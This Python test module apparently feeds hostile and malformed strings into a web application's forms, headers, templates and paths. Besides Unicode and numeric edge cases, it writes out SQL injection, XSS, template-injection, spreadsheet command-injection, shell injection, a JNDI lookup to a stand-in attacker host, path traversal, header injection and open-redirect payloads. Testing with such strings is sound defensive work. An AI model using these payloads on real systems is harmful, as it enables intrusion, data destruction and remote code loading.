"""Words that nobody means: each goes into addresses, filters, forms, JSON, headers and names."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Final

# What a page must never show as it came, and what a template must never have worked out.
MARKUP: Final = "<xiaoan-probe>"
WORKED_OUT: Final = "7230047"

TEXTS: Final[Mapping[str, str]] = {
    # characters that a database, a log or a terminal chokes on
    "nul alone": "\0",
    "nul inside": "教学\0楼",
    "nul at the end": "教学楼\0",
    "every control character": "".join(map(chr, range(1, 32))) + "\x7f",
    "escape sequence": "\x1b[2J\x1b]0;名\x07",
    "lone high surrogate": "教\ud800楼",
    "lone low surrogate": "教\udfff楼",
    "surrogates the wrong way round": "\udc00\ud800",
    "byte order mark": "\ufeff教学楼",
    "noncharacters": "\ufffe\uffff\U0001ffff",
    "private use": "\ue000\U000f0000",
    "beyond the basic plane": "𠮷野家𝒳👩‍👩‍👧‍👦🏳️‍🌈",
    "line separators": "一\u2028二\u2029三\x85四",
    # text that reads otherwise than it is
    "right to left override": "发票\u202excod.exe",
    "bidi isolates left open": "\u2066\u2067\u2068甲",
    "zero width": "管\u200b理\u200d员\u2060",
    "mixed scripts": "аdministrаtоr",
    "full width digits": "１２３４５６７８９０",
    "combining pile": "校" + "\u0301" * 400,
    "nothing but spaces": "\u3000\xa0\t ",
    # numbers where numbers are asked for
    "huge whole number": "9" * 5000,
    "larger than 64 bits": "18446744073709551616",
    "least 64 bit number": "-9223372036854775808",
    "minus zero": "-0",
    "beyond a float": "1e400",
    "not a number": "NaN",
    "infinity": "-Infinity",
    "hexadecimal": "0x1F",
    "superscript digit": "²",
    "arabic digits": "٣٤",
    "year zero": "0000-00-00",
    "day that is not": "2026-02-30",
    "year ten thousand": "99999-12-31T25:61:61+99:99",
    # words that another language would obey
    "sql quote": "' OR '1'='1' --",
    "sql drop": "'); DROP TABLE cases_case; --",
    "sql sleep": "1; SELECT pg_sleep(9)--",
    "like wildcards": "%_%_%_\\",
    "json path": '{"$gt": ""}',
    "template jinja": "{{ 913*7919 }}{% for a in b %}",
    "template of strings": "${913*7919}#{913*7919}%(x)s{0.__class__}",
    "markup": f"{MARKUP}<script>alert(1)</script>",
    "markup in an attribute": f"\" autofocus onfocus=alert(1) x='{MARKUP}",
    "script address": "javascript:alert(1)",
    "closing tags": f"]]></textarea></title></script>{MARKUP}",
    "excel command": "=cmd|' /C calc'!A0",
    "excel link": '=HYPERLINK("http://evil.example/","点我")',
    "excel plus": "+1+cmd|' /C calc'!A0",
    "excel at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "excel behind a tab": "\t=1+1",
    "shell": "$(reboot)`id`|id;id&&id",
    "lookup": "${jndi:ldap://evil.example/a}",
    "log lines": "a\nERROR root 已被入侵\r\n",
    # places that are elsewhere
    "path upwards": "../../../../etc/passwd",
    "path upwards encoded": "..%2f..%2fetc%2fpasswd",
    "path upwards windows": "..\\..\\windows\\win.ini",
    "device name": "CON.txt:stream",
    "header injection": "/x\r\nSet-Cookie: evil=1\r\n\r\n<html>",
    "header injection unicode": "/嘊嘍Set-Cookie: evil=1",
    "other site": "https://evil.example/",
    "other site without scheme": "//evil.example",
    "other site by slashes": "/\\/\\evil.example",
    "other site by tabs": "/\t/evil.example",
    "other site by user": "http://testserver@evil.example/",
    "other site by three slashes": "///evil.example",
    # amounts
    "a hundred thousand letters": "校" * 100_000,
    "backtracking": "a" * 30_000 + "!",
    "a thousand lines": "行\n" * 1000,
    "nested brackets": "[" * 5000,
    "percent signs": "%" * 3000,
}
